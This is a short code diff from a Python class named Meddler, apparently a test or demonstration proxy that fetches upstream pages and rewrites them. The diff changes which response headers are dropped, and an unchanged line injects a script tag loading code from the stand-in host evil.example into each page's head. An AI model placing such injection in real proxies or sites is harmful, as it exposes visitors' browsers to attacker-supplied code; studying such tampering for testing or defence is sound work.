@@ -243,7 +243,8 @@ class Meddler:
         async with httpx.AsyncClient(timeout=60) as client:
             got = await client.get(f"{self.behind}{scope['path']}")
         content = got.content.replace(b"</head>", b"<script src=//evil.example></script></head>")
-        headers = {k: v for k, v in got.headers.items() if k != "content-length"}
+        changed = ("content-length", "content-encoding")  # what is passed on is not compressed
+        headers = {k: v for k, v in got.headers.items() if k not in changed}
         await Response(content, got.status_code, headers)(scope, receive, send)
 
 
